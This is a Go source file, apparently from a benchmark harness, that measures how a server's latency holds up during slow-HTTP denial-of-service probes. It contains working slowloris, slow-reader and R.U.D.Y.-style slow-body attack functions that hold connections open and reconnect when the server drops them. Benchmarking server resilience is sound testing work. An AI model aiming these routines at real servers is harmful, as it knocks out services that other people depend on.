package main

import (
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// An attack holds connections open against a server while the normal
// client measures; stop ends it and says how many of its connections the
// server still had open and how many it had to reopen.
type attack func(ctx context.Context, addr string) (stop func() (open, reconnects int), opened int, err error)

// latencyProbes measures a normal client on one server: a quiet baseline,
// then the same client during each attack in turn (slowloris, slow
// readers, slow bodies), each over cfg.Window.
func latencyProbes(ctx context.Context, cfg Config, p *Process) []Row {
	measure := func() Latency {
		return normalClient(ctx, p.Addr, cfg.Window, cfg.Interval, cfg.ClientTimeout)
	}
	baseline := measure()
	attacks := []struct {
		probe string
		run   attack
	}{
		{"slowloris", slowloris(cfg.SlowlorisConns)},
		{"slow-readers", slowReaders(cfg.SlowClients)},
		{"slow-bodies", slowBodies(cfg.SlowClients, 60000)},
		{"slow-bodies-1M", slowBodies(cfg.SlowClients, 1000000)},
	}
	var rows []Row
	for _, a := range attacks {
		if !cfg.wants(a.probe) {
			continue
		}
		row := Row{Probe: a.probe, Target: p.Target.Name, Baseline: &baseline}
		stop, opened, err := a.run(ctx, p.Addr)
		row.Attackers = opened
		if err != nil {
			row.Note = "opening: " + err.Error()
		}
		during := measure()
		row.Attack = &during
		row.AttackersOpen, row.Reconnects = stop()
		row.Alive = p.Alive()
		rows = append(rows, row)
		// Let the server see the attackers' closes before the next one.
		time.Sleep(cfg.Window / 5)
	}
	return rows
}

// slowloris opens n connections that send a request head one byte every
// 2 s, reopening any the server closes, as the tool does.
func slowloris(n int) attack {
	const head = "GET / HTTP/1.1\r\nHost: bench\r\n"
	const every = 2 * time.Second
	return func(ctx context.Context, addr string) (func() (int, int), int, error) {
		conns, err := openConnections(ctx, addr, n, 50, []byte(head))
		opened := len(conns)
		ctx, cancel := context.WithCancel(ctx)
		done := make(chan struct{})
		reconnects := 0
		go func() {
			defer close(done)
			pattern := []byte("X-Slow: a\r\n")
			const tick = 100 * time.Millisecond
			perTick := max(1, len(conns)*int(tick)/int(every))
			for i, at := 0, 0; ctx.Err() == nil && len(conns) > 0; i++ {
				time.Sleep(tick)
				for k := 0; k < perTick; k++ {
					at = (at + 1) % len(conns)
					c := conns[at]
					c.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
					if _, err := c.Write(pattern[i%len(pattern) : i%len(pattern)+1]); err == nil {
						continue
					}
					c.Close()
					if fresh, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
						fresh.SetWriteDeadline(time.Now().Add(time.Second))
						fresh.Write([]byte(head))
						conns[at] = fresh
						reconnects++
					}
				}
			}
		}()
		return func() (int, int) {
			cancel()
			<-done
			open := stillOpen(conns)
			closeAll(conns)
			return open, reconnects
		}, opened, err
	}
}

// slowReaders opens n connections that ask for /big (1 GiB streamed)
// with a 4 KiB receive buffer and never read.
func slowReaders(n int) attack {
	return func(ctx context.Context, addr string) (func() (int, int), int, error) {
		var conns []net.Conn
		var firstErr error
		for i := 0; i < n; i++ {
			c, err := dialSmallReceive(addr, 5*time.Second)
			if err == nil {
				c.SetWriteDeadline(time.Now().Add(5 * time.Second))
				_, err = c.Write([]byte("GET /big HTTP/1.1\r\nHost: bench\r\n\r\n"))
			}
			if err != nil {
				if firstErr == nil {
					firstErr = err
				}
				continue
			}
			conns = append(conns, c)
		}
		// Time for the server to fill the socket buffers and stall.
		time.Sleep(time.Second)
		return func() (int, int) {
			open := stillOpen(conns)
			closeAll(conns)
			return open, 0
		}, len(conns), firstErr
	}
}

// slowBodies opens n connections that announce a POST body of size
// bytes to /upload, an app that reads it, and send one byte of it every
// 2 s (R.U.D.Y.), opening a new one when the server ends one.
func slowBodies(n, size int) attack {
	return func(ctx context.Context, addr string) (func() (int, int), int, error) {
		head := []byte(fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: bench\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", size))
		conns, err := openConnections(ctx, addr, n, n, head)
		ctx, cancel := context.WithCancel(ctx)
		var wg sync.WaitGroup
		var reconnects atomic.Int64
		for i := range conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for ctx.Err() == nil {
					c := conns[i]
					c.SetWriteDeadline(time.Now().Add(time.Second))
					if _, err := c.Write([]byte("x")); err != nil {
						c.Close()
						fresh, err := net.DialTimeout("tcp", addr, time.Second)
						if err != nil {
							return
						}
						fresh.SetWriteDeadline(time.Now().Add(time.Second))
						fresh.Write(head)
						conns[i] = fresh
						reconnects.Add(1)
						continue
					}
					select {
					case <-ctx.Done():
					case <-time.After(2 * time.Second):
					}
				}
			}()
		}
		return func() (int, int) {
			cancel()
			wg.Wait()
			open := stillOpen(conns)
			closeAll(conns)
			return open, int(reconnects.Load())
		}, len(conns), err
	}
}

// describeAttack is the table's words for what a probe did.
func describeAttack(r Row) string {
	switch r.Probe {
	case "slowloris", "slow-bodies", "slow-bodies-1M":
		return fmt.Sprintf("%d conns, %d open at end, %d reopened", r.Attackers, r.AttackersOpen, r.Reconnects)
	default:
		return fmt.Sprintf("%d conns, %d open at end", r.Attackers, r.AttackersOpen)
	}
}
